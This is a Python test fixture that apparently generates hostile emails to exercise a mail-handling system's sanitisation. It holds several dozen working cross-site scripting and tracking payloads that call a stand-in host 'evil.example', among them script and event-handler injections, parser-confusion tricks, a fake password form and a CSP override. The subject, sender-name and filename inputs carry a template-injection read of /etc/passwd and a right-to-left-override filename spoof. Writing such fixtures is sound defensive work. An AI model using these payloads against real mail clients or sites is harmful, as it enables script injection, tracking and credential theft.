"""Mail that wants to do something in the browser of whoever reads it. Each payload calls home or opens a dialog."""

from email.message import EmailMessage
from email.policy import SMTP

HOME = "https://evil.example"
_JS = "alert(document.domain)"

IN_HTML: tuple[str, ...] = (
    f"<script>{_JS}</script>",
    f"<SCRIPT SRC={HOME}/x.js></SCRIPT>",
    f"<img src=x onerror={_JS}>",
    f'<img src="{HOME}/pixel.gif">',
    f'<img srcset="{HOME}/pixel.gif 2x">',
    f"<svg onload={_JS}>",
    f"<svg><script>{_JS}</script></svg>",
    f"<svg><animate onbegin={_JS} attributeName=x dur=1s>",
    f'<svg><image href="{HOME}/pixel.svg"/></svg>',
    f'<svg><use href="{HOME}/sprite.svg#x"/></svg>',
    f'<svg><foreignObject><iframe src="{HOME}"></iframe></foreignObject></svg>',
    f'<math><mi xlink:href="javascript:{_JS}">x</mi></math>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={_JS}>",
    f'<iframe src="{HOME}"></iframe>',
    f"<iframe srcdoc='<script>{_JS}</script>'></iframe>",
    f'<iframe src="javascript:{_JS}"></iframe>',
    f'<object data="{HOME}/x.swf"></object>',
    f'<embed src="{HOME}/x.svg">',
    f'<link rel=stylesheet href="{HOME}/x.css">',
    f'<link rel=prefetch href="{HOME}/x">',
    f'<style>@import "{HOME}/x.css";</style>',
    f"<style>body{{background:url({HOME}/x.png)}}</style>",
    f"<p style=\"background:url('{HOME}/x.png')\">styled</p>",
    f'<div style="position:fixed;inset:0;z-index:99999;background:url({HOME}/cover)">cover</div>',
    f'<table background="{HOME}/x.png"><tr><td background="{HOME}/y.png">cell</td></tr></table>',
    f'<body background="{HOME}/x.png" onload={_JS}>',
    f'<meta http-equiv=refresh content="0;url={HOME}">',
    f'<meta http-equiv="Content-Security-Policy" content="script-src *"><script>{_JS}</script>',
    f'<base href="{HOME}/"><img src=relative.png>',
    f'<form action="{HOME}"><input name=password autofocus onfocus={_JS}><button>Sign in</button></form>',
    f'<input type=image src="{HOME}/x.png">',
    f"<button formaction=javascript:{_JS} autofocus onfocus={_JS}>x</button>",
    f'<a href="javascript:{_JS}">click</a>',
    f'<a href=" java\tscript:{_JS}">click</a>',
    f'<a href="data:text/html,<script>{_JS}</script>">click</a>',
    f'<a href="vbscript:msgbox(1)" ping="{HOME}">click</a>',
    f"<details open ontoggle={_JS}><summary>x</summary></details>",
    f"<video src={HOME}/x.mp4 autoplay onerror={_JS}></video>",
    f"<video poster={HOME}/x.png></video>",
    f"<audio src={HOME}/x.mp3 autoplay></audio>",
    f"<source srcset={HOME}/x.png><track src={HOME}/x.vtt>",
    f"<picture><source srcset={HOME}/x.webp><img src=x onerror={_JS}></picture>",
    f"<marquee onstart={_JS}>x</marquee>",
    f"<xss onpointerrawupdate={_JS} tabindex=1 autofocus onfocus={_JS}>x</xss>",
    f"<template><script>{_JS}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={_JS}>"></noscript>',
    f"<!--><img src=x onerror={_JS}>-->",
    f"<![CDATA[<img src=x onerror={_JS}>]]>",
    f"<textarea></textarea><img src=x onerror={_JS}></textarea>",
    f"<title></title><script>{_JS}</script></title>",
    f"</style></script></title></textarea><script>{_JS}</script>",
    f"<p title='\"><script>{_JS}</script>'>x</p>",
    f"<img src=x` onerror={_JS}>",
    f"<img/src=x/onerror={_JS}>",
    f"<<script>{_JS}//<</script>",
    f"<scr<script>ipt>{_JS}</scr</script>ipt>",
    f"<img src=&#x6A;avascript:{_JS}>",
    f"<portal src={HOME}></portal>",
    f"<frameset><frame src={HOME}></frameset>",
    f"<applet code=x archive={HOME}/x.jar></applet>",
    f"<isindex action=javascript:{_JS} type=image>",
    f'<font face="x" style="behavior:url({HOME}/x.htc)">x</font>',
    f'<blockquote cite="javascript:{_JS}">x</blockquote>',
    "<img src='cid:none@x' onload=" + _JS + ">",
)

IN_WORDS: tuple[str, ...] = (
    f"<script>{_JS}</script>",
    f'"><img src=x onerror={_JS}>',
    "{{ 7*7 }}{% include '/etc/passwd' %}",
    f"javascript:{_JS}",
    "\u202egnp.exe\u202c",
    f"' onmouseover={_JS} '",
    f"</title><script>{_JS}</script>",
    f"[click](javascript:{_JS}) ![x]({HOME}/pixel.png) <{HOME}>",
)
"""For the subject, the name, the text and the name of a file."""


def hostile_mails() -> list[bytes]:
    """One mail a payload."""
    html = [_mail(n, f"Question {n}", "Ann Example", "How do we get a licence?", one) for n, one in enumerate(IN_HTML)]
    words = [_mail(1000 + n, one, one, f"a quote, please: {one}", "", one) for n, one in enumerate(IN_WORDS)]
    return html + words


def _mail(number: int, subject: str, name: str, text: str, html: str, filename: str = "") -> bytes:
    message = EmailMessage(policy=SMTP)
    message["From"] = f"ann@partner{number}.example"
    message.replace_header("From", _address(name, number))
    message["To"] = "partnersupport@gitlab.com"
    message["Subject"] = subject
    message["Date"] = "Mon, 02 Mar 2026 11:59:00 +0000"
    message["Message-ID"] = f"<hostile{number}@partner.example>"
    message.set_content(text)
    if html:
        message.add_alternative(f"<html><body><p>How do we get a licence?</p>{html}</body></html>", subtype="html")
    if filename:
        message.add_attachment(b"<script>alert(1)</script>", "text", "html", filename=filename)
    return message.as_bytes()


def _address(name: str, number: int) -> str:
    plain = name.replace("\\", "").replace('"', "'")
    return f'"{plain}" <ann@partner{number}.example>'
